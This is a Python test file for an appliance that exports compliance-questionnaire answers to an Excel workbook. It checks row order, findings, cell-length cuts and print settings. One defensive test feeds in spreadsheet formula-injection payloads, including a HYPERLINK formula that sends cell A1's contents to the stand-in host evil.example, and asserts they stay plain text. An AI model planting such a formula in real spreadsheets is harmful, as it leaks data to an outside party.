"""The workbook of answers holds every question in portal order, as text that no program runs."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
import pytest

from appliance.adapters.workbook import CELL_LIMIT, render_xlsx
from appliance.foundation.canonical_json import sha256_hex
from appliance.services.reports.document import ReportDocument, build_report_document
from tests.adapters.documents.hostile_report import report_with
from tests.services.reports.real_sample import real_report
from tests.services.reports.sample_evaluation import sample

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def book_of(report: ReportDocument) -> Any:
    return openpyxl.load_workbook(io.BytesIO(render_xlsx(report.as_document())))


def rows(book: Any, sheet: str) -> list[dict[str, Any]]:
    head, *body = book[sheet].iter_rows(values_only=True)
    return [dict(zip(head, row, strict=True)) for row in body]


@pytest.fixture(scope="module")
def report() -> ReportDocument:
    return real_report("sixty-person-byod-partial-scope")


@pytest.fixture(scope="module")
def book(report: ReportDocument) -> Any:
    return book_of(report)


@pytest.mark.req("FIND-04")
def test_every_question_has_a_row_in_the_order_of_the_portal(book: Any, report: ReportDocument) -> None:
    numbers = [row["Number"] for row in rows(book, "Answers")]
    sections = report.answer_annex.sections
    known = {entry.number for section in sections for entry in section.entries}
    known |= {number for section in sections for number in section.not_asked}

    assert set(numbers) == known
    assert len(numbers) == len(known) == 106
    assert numbers.index("A2.9") < numbers.index("A2.10") < numbers.index("A4.1") < numbers.index("A4.1.1")
    assert numbers[0] == "A1.1"


@pytest.mark.req("FIND-04")
def test_a_row_has_the_text_its_length_and_what_it_comes_from(book: Any) -> None:
    by_number = {row["Number"]: row for row in rows(book, "Answers")}
    name, scope = by_number["A1.1"], by_number["A2.2"]

    assert name["Text to paste"] == "Ashdown Precision Engineering Ltd"
    assert (name["Characters"], name["At most"], name["State"]) == (33, 150, "Answered")
    assert "Organisation: Full legal name: Ashdown Precision Engineering Ltd" in name["Facts it comes from"]
    assert scope["Controls"] == "CE-SCOPE"
    assert by_number["A4.1"]["Evidence"].split("\n")[0] == "Rule export of all three firewalls"


def test_findings_and_checks_come_with_it(book: Any, report: ReportDocument) -> None:
    found = {row["Control"]: row for row in rows(book, "Findings")}

    assert list(found) == [control.control_id for control in report.controls]
    assert found["CE-8"]["Assessed result"] == "Not met"
    about = dict(row[:2] for row in book["About"].iter_rows(values_only=True))
    assert about["Content of the report (SHA-256)"] == sha256_hex(report.as_document())
    assert "not a certificate" in about["What this is, and is not"]


@pytest.mark.req("FIND-04")
@pytest.mark.parametrize("text", [FORMULA, "+1", "-1+1", "@SUM(A1)", "\t=1", "http://evil.example/", "0123"])
def test_what_looks_like_a_formula_or_a_link_is_text(text: str) -> None:
    book = book_of(report_with(text))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]

    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s", "n"}
    assert all(cell.hyperlink is None for cell in cells)
    assert text in [cell.value for cell in cells]


def test_a_text_longer_than_a_cell_says_that_it_was_cut() -> None:
    book = book_of(report_with("Brook", "x" * (CELL_LIMIT + 5)))
    texts = [row["Text to paste"] or "" for row in rows(book, "Answers")]
    longest = max(texts, key=len)

    assert len(longest) == CELL_LIMIT
    assert longest.endswith("the whole text is in answers.json)")


@pytest.mark.req("FIND-04")
def test_a_cell_is_measured_as_spreadsheet_programs_do_it() -> None:
    """They count UTF-16: a file with one cell too long in that is offered for repair."""
    book = book_of(report_with("Brook", "\N{GRINNING FACE}" * (CELL_LIMIT // 2 + 5)))
    cells = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row]
    longest = max((value for value in cells if isinstance(value, str)), key=len)
    assert longest.endswith("\N{GRINNING FACE}… (cut here; the whole text is in answers.json)")
    assert CELL_LIMIT - 1 <= len(longest.encode("utf-16-le")) // 2 <= CELL_LIMIT


def test_it_prints_on_a4_with_its_heads_on_every_page(book: Any) -> None:
    sheet = book["Answers"]

    assert (sheet.page_setup.paperSize, sheet.page_setup.orientation) == (9, "landscape")
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.freeze_panes == "B2"


def test_its_only_time_is_the_day_of_the_evaluation() -> None:
    properties = book_of(build_report_document(*sample())).properties

    assert str(properties.created) == "2026-11-21 00:00:00"
    assert properties.keywords.startswith("transcrypt-report-sha256:")
